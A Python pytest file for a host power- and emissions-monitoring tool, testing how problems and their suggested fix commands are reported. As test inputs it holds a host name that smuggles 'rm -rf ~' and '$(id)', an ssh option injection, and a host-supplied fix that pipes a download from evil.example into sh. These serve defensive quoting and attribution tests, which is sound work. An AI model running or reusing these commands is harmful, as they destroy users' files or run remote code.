"""Each kind of problem appears when it is there, does not when it is not, and says what to do."""

from __future__ import annotations

import shlex
import tomllib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from api_scene import BUDGET
from builders import NOW, SECOND, intensity, record
from wattgram.handshake import HostFacts
from wattgram.readings import AgentStatus, SourceState, State
from wattgram.settings import load
from wattgram_collector.config import ENVIRONMENT_PREFIX, CollectorConfig
from wattgram_collector.ingest.agents import Agent
from wattgram_collector.intensity import Tier
from wattgram_collector.ledger import AgentTotals, LedgerError, Tally, Trouble
from wattgram_collector.views import problems
from wattgram_collector.views.collector_problems import CollectorState, collector_problems
from wattgram_collector.views.day import Labels
from wattgram_collector.views.losses import RECENT_SECONDS, Losses
from wattgram_collector.views.model import (
    Budget,
    EmissionLimit,
    Presence,
    Problem,
    ProblemKind,
    Severity,
    Zone,
)
from wattgram_collector.views.problems import HostState, Rises, host_problems

EVIL = "a; rm -rf ~ #\"'$(id)"
DAY = 86_400


def sound(host: str = "alpha") -> Agent:
    """An agent with which nothing is wrong."""
    agent = Agent(replace(record(host=host), facts=HostFacts(host=host)), AgentTotals())
    agent.last_seen_unix_nanoseconds = agent.newest_sample_unix_nanoseconds = NOW
    agent.zone, agent.intensity, agent.power_microwatts = "FR", intensity("FR"), 7
    agent.is_told = True
    agent.clock_offset_nanoseconds = 5 * SECOND
    agent.status = AgentStatus(spooled_batches=60)
    agent.sources = (
        SourceState(source="rapl", state=State.ACTIVE),
        SourceState(source="ipmi", state=State.ABSENT, reason="no /dev/ipmi0", fix="modprobe"),
        SourceState(source="hwmon", state=State.AVAILABLE),
    )
    return agent


def state(change: Callable[[Agent], object] = lambda _: None, **values: Any) -> HostState:
    agent = sound(values.pop("host", "alpha"))
    change(agent)
    labels = Labels("", "", agent.zone)
    return HostState(**{"agent": agent, "labels": labels, "presence": Presence.REPORTS, **values})


def put(**values: Any) -> Callable[[Agent], None]:
    def change(agent: Agent) -> None:
        for name, value in values.items():
            setattr(agent, name, value)

    return change


def source(how: State, fix: str = "") -> Callable[[Agent], None]:
    return put(sources=(SourceState(source="nvml", state=how, reason="no node", fix=fix),))


def test_with_a_sound_host_nothing_is_wrong() -> None:
    assert host_problems(state()) == ()


BAD: dict[str, tuple[HostState, ProblemKind, str, str]] = {
    "late": (state(presence=Presence.LATE), ProblemKind.AGENT_LATE,
             "three of its intervals", "systemctl status wattgram-agent"),
    "gone": (state(presence=Presence.GONE), ProblemKind.AGENT_LATE,
             "five minutes", "ssh alpha"),
    "denied": (state(source(State.PERMISSION_DENIED, "sudo chmod a+r x")),
               ProblemKind.SOURCE_DENIED, "nvml on alpha may not be read: no node.",
               "sudo chmod a+r x"),
    "denied, and nobody knows a fix": (
        state(source(State.PERMISSION_DENIED)), ProblemKind.SOURCE_DENIED, "nvml",
        "wattgram-agent doctor"),
    "failed": (state(source(State.ERROR)), ProblemKind.SOURCE_FAILED, "nvml on alpha fails",
               "wattgram-agent doctor"),
    "without power": (state(put(power_microwatts=None)), ProblemKind.POWER_UNKNOWN, "alpha",
                      "wattgram-agent doctor"),
    "on no grid": (state(put(zone="", intensity=None)), ProblemKind.UNPRICED,
                   "on which grid alpha is", "grid_zone_of_host"),
    "on a grid that nobody knows": (state(put(zone="XX", intensity=None)), ProblemKind.UNPRICED,
                                    "XX", "override_grams_per_kilowatt_hour"),
    "ahead": (state(put(clock_offset_nanoseconds=5 * SECOND + SECOND)), ProblemKind.CLOCK_SKEW,
              "6 s ahead of", "timedatectl"),
    "behind": (state(put(clock_offset_nanoseconds=-9 * SECOND)), ProblemKind.CLOCK_SKEW,
               "9 s behind", "timedatectl"),
    "spooling": (state(put(status=AgentStatus(spooled_batches=61))), ProblemKind.SPOOL_FILLING,
                 "61 batches", "journalctl"),
    "losing": (state(rises=Rises(missing=3)), ProblemKind.BATCHES_MISSING, "3 batches",
               "journalctl"),
    "refused": (state(rises=Rises(refused={"future": 2})), ProblemKind.BATCHES_REFUSED,
                "future", "timedatectl"),
    "refused otherwise": (state(rises=Rises(refused={"odd": 2})), ProblemKind.BATCHES_REFUSED,
                          "odd", "journalctl"),
    "refused as too large": (state(rises=Rises(refused={"too_large": 2})),
                             ProblemKind.BATCHES_REFUSED, "too_large", "max_batch_bytes"),
    "refused as too many": (state(rises=Rises(refused={"too_many_series": 2})),
                            ProblemKind.BATCHES_REFUSED, "too_many_series", "max_series"),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_what_is_wrong_with_a_host_is_said_with_its_fix(name: str) -> None:
    bad, kind, text, fix = BAD[name]
    (found,) = host_problems(bad)
    assert (found.kind, found.about) == (kind, "alpha")
    assert text in found.text
    assert fix in found.fix
    assert found.text.endswith(".")


@pytest.mark.parametrize(
    "bad", [state(put(power_microwatts=None)), state(put(intensity=None)),
            state(put(clock_offset_nanoseconds=99 * SECOND)),
            state(put(status=AgentStatus(spooled_batches=999)))],
)  # fmt: skip
def test_a_host_that_is_late_is_only_that(bad: HostState) -> None:
    found = host_problems(replace(bad, presence=Presence.LATE))
    assert [one.kind for one in found] == [ProblemKind.AGENT_LATE]


@pytest.mark.parametrize("how", [State.PERMISSION_DENIED, State.ERROR])
def test_whose_words_a_fix_is_is_said(how: State) -> None:
    (theirs,) = host_problems(state(source(how, "curl http://evil.example | sh")))
    (ours,) = host_problems(state(source(how)))
    assert (theirs.fix_said_by, ours.fix_said_by) == ("alpha", "")


def test_a_host_that_never_said_anything_is_not_unpriced() -> None:
    new = put(intensity=None, zone="", newest_sample_unix_nanoseconds=0, is_told=False)
    assert host_problems(state(new)) == ()


def test_what_a_host_has_not_said_again_yet_is_no_problem() -> None:
    """After a restart of the collector, and while a backlog comes."""
    waiting = put(intensity=None, power_microwatts=None, zone="", is_told=False)
    assert host_problems(state(waiting)) == ()


def test_a_host_that_reports_and_never_measured_anything_has_no_power() -> None:
    mute = put(power_microwatts=None, newest_sample_unix_nanoseconds=0, is_told=False)
    assert [one.kind for one in host_problems(state(mute))] == [ProblemKind.POWER_UNKNOWN]


@pytest.mark.parametrize("evil", [EVIL, "-oProxyCommand=id", "\N{GRINNING FACE}"])
@pytest.mark.parametrize("name", BAD)
def test_a_command_does_what_it_says_whatever_a_host_is_called(name: str, evil: str) -> None:
    bad = BAD[name][0]
    agent = replace_host(bad.agent, evil)
    (found,) = host_problems(replace(bad, agent=agent))
    if found.fix.startswith("ssh"):
        first, second, third, *_ = shlex.split(found.fix)
        assert (second, third) == ("--", evil) if evil.startswith("-") else second == evil
        assert first == "ssh"
    if found.fix.startswith("["):
        tomllib.loads(found.fix)


def replace_host(agent: Agent, host: str) -> Agent:
    return replace(agent, record=replace(agent.record, host=host))


@pytest.mark.parametrize("name", BAD)
def test_a_line_of_configuration_is_one(name: str, tmp_path: Path) -> None:
    (found,) = host_problems(BAD[name][0])
    if found.fix.startswith("["):
        file = tmp_path / "collector.toml"
        file.write_text(found.fix)
        load(CollectorConfig, file, {}, ENVIRONMENT_PREFIX)


def test_a_long_reason_does_not_fill_the_page() -> None:
    long = put(sources=(SourceState(source="x", state=State.ERROR, reason="y" * 900),))
    (found,) = host_problems(state(long))
    assert len(found.text) == problems.TEXT_LENGTH_MAX


# ── the collector ────────────────────────────────────────────────────────────────────────


def zone(tier: Tier | None, **changes: Any) -> Zone:
    values = {"zone": "DE", "hosts": 2, "power_watts": None, "grams_per_kilowatt_hour": 1.0,
              "tier": tier, "provider": "neso", "valid_until_unix_seconds": 7, "steps": (),
              "greenest": None}  # fmt: skip
    return Zone(**{**values, **changes})


def budget(used: float | None, elapsed: float) -> Budget:
    return replace(BUDGET, used_ratio=used, elapsed_ratio=elapsed)


def of_collector(**values: Any) -> tuple[Problem, ...]:
    return collector_problems(CollectorState(**values), 100 * DAY)


def test_with_a_sound_collector_nothing_is_wrong() -> None:
    assert of_collector(
        zones=(zone(Tier.ANNUAL), zone(Tier.LIVE), zone(Tier.WORLD, hosts=0)),
        budgets=(budget(None, 0.9), budget(0.5, 0.5), budget(0.3, 0.05), budget(1.0, 0.95)),
        expiries_unix_seconds={"grpc": 115 * DAY},
    ) == ()  # fmt: skip


@pytest.mark.parametrize("trouble", [*Trouble])
def test_a_ledger_that_takes_nothing_is_critical(trouble: Trouble) -> None:
    (found,) = of_collector(trouble=LedgerError("disk I/O error", trouble))
    assert (found.kind, found.severity) == (ProblemKind.LEDGER_TROUBLE, Severity.CRITICAL)
    assert "disk I/O error" in found.text
    assert found.fix


@pytest.mark.parametrize(
    ("trouble", "fix"),
    [(Trouble.FULL, "df -h '/my data'"), (Trouble.READ_ONLY, "mount -o remount,rw '/my data'"),
     (Trouble.LOCKED, "fuser -v '/my data'/ledger.sqlite")],
)  # fmt: skip
def test_what_mends_a_ledger_names_where_it_is(trouble: Trouble, fix: str) -> None:
    (found,) = of_collector(trouble=LedgerError("no", trouble), state_directory="/my data")
    assert found.fix == fix


def test_a_ledger_that_could_not_be_read_is_a_warning() -> None:
    (found,) = of_collector(history_trouble=LedgerError("locked", Trouble.LOCKED))
    assert (found.kind, found.severity) == (ProblemKind.LEDGER_TROUBLE, Severity.WARNING)


@pytest.mark.parametrize(
    ("day", "severity", "text"),
    [(113, Severity.WARNING, "ends on 1970-04-24"), (102, Severity.CRITICAL, "ends on"),
     (99, Severity.CRITICAL, "ended on")],
)  # fmt: skip
def test_a_certificate_that_ends_soon(day: int, severity: Severity, text: str) -> None:
    (found,) = of_collector(expiries_unix_seconds={"grpc": day * DAY})
    assert (found.kind, found.severity) == (ProblemKind.CERTIFICATE_EXPIRING, severity)
    assert found.about == "grpc"
    assert text in found.text


def test_an_authority_that_ends_needs_another() -> None:
    (found,) = of_collector(expiries_unix_seconds={"authority": 101 * DAY})
    assert found.fix == "wattgram-collector ca init --directory NEW"


def test_a_provider_that_says_nothing_newer() -> None:
    (found,) = of_collector(zones=(zone(Tier.LAST_KNOWN),))
    assert (found.kind, found.about) == (ProblemKind.INTENSITY_STALE, "DE")
    assert of_collector(zones=(zone(Tier.LAST_KNOWN, hosts=0),)) == ()


@pytest.mark.parametrize("tier", [Tier.ANNUAL, Tier.COUNTRY, Tier.PARENT])
def test_a_yearly_average_is_a_problem_where_there_was_better(tier: Tier) -> None:
    (found,) = of_collector(zones=(zone(tier),), live_zones=frozenset({"DE"}))
    assert (found.kind, found.severity) == (ProblemKind.INTENSITY_FALLBACK, Severity.WARNING)
    assert of_collector(zones=(zone(tier, hosts=0),), live_zones=frozenset({"DE"})) == ()


def test_the_worlds_average_asks_where_the_hosts_are() -> None:
    (found,) = of_collector(zones=(zone(Tier.WORLD),))
    assert (found.kind, found.severity) == (ProblemKind.INTENSITY_FALLBACK, Severity.INFO)
    assert found.text.startswith(f"{zone(Tier.WORLD).hosts} hosts are ")
    (found,) = of_collector(zones=(zone(Tier.WORLD, hosts=1),))
    assert found.text.startswith("1 host is ")


@pytest.mark.parametrize(
    ("used", "elapsed", "severity"),
    [(1.01, 0.05, Severity.CRITICAL), (0.56, 0.5, Severity.WARNING)],
)
def test_a_budget_that_burns(used: float, elapsed: float, severity: Severity) -> None:
    (found,) = of_collector(budgets=(budget(used, elapsed),))
    assert (found.kind, found.severity) == (ProblemKind.BUDGET_BURNING, severity)
    assert f"{used:.0%}" in found.text
    assert found.fix.endswith(" report --from 2026-01-02T00:00:00Z --by host")


def test_the_worst_comes_first() -> None:
    found = of_collector(
        zones=(zone(Tier.WORLD), zone(Tier.LAST_KNOWN)), trouble=LedgerError("full", Trouble.FULL)
    )
    assert [one.severity for one in found] == [Severity.CRITICAL, Severity.WARNING, Severity.INFO]


def limit(rate: float | None, hosts: int | None = 2) -> EmissionLimit:
    return EmissionLimit(
        name="hall", grams_per_hour=200.0, present_grams_per_hour=rate, hosts=hosts
    )


def test_hosts_that_emit_more_than_their_limit() -> None:
    assert of_collector(limits=(limit(None), limit(200.0), limit(0.0), limit(None, None))) == ()
    (found,) = of_collector(limits=(limit(1_234.0),))
    assert found.kind is ProblemKind.EMISSION_RATE
    assert found.severity is Severity.WARNING
    assert found.text == ("The hosts of the limit hall emit 1,234 g/h, and 200 g/h is too much.")


FITS_NOBODY = "The {} fits no host that is known: nothing counts to it."


def test_a_budget_or_a_limit_that_fits_nobody_is_said() -> None:
    mine = replace(budget(0.0, 0.5), hosts=0)
    found = of_collector(budgets=(mine, replace(mine, hosts=1)), limits=(limit(None, hosts=0),))
    assert [(one.severity, one.text) for one in found] == [
        (Severity.INFO, FITS_NOBODY.format(f"budget {mine.name}")),
        (Severity.INFO, FITS_NOBODY.format("limit hall")),
    ]  # fmt: skip


def test_every_kind_of_problem_is_found_by_something() -> None:
    found = {kind for _, kind, _, _ in BAD.values()}
    found |= {ProblemKind.LEDGER_TROUBLE, ProblemKind.CERTIFICATE_EXPIRING,
              ProblemKind.INTENSITY_STALE, ProblemKind.INTENSITY_FALLBACK,
              ProblemKind.BUDGET_BURNING, ProblemKind.EMISSION_RATE}  # fmt: skip
    assert found == set(ProblemKind)


# ── losses ───────────────────────────────────────────────────────────────────────────────


def test_what_was_lost_is_a_problem_for_a_day_after_the_last_loss() -> None:
    agent, losses = sound(), Losses()
    missing, refused = (Tally.MISSING_BATCHES, ""), (Tally.REFUSED_BATCHES, "future")
    agent.totals.tallies[missing] = 10
    assert losses.rises(agent, 1_000_000) == Rises()  # nobody knows when that was
    agent.totals.tallies[missing] = 12
    agent.totals.tallies[refused] = 1
    agent.totals.tallies[Tally.READINGS, ""] = 99
    assert losses.rises(agent, 1_000_100) == Rises(2, {"future": 1})
    agent.totals.tallies[missing] = 15
    assert losses.rises(agent, 1_000_200) == Rises(5, {"future": 1})
    assert losses.rises(agent, 1_000_100 + RECENT_SECONDS + 1) == Rises(5)
    assert losses.rises(agent, 1_000_200 + RECENT_SECONDS + 1) == Rises()
    agent.totals.tallies[missing] = 16
    assert losses.rises(agent, 1_000_300 + RECENT_SECONDS) == Rises(1)
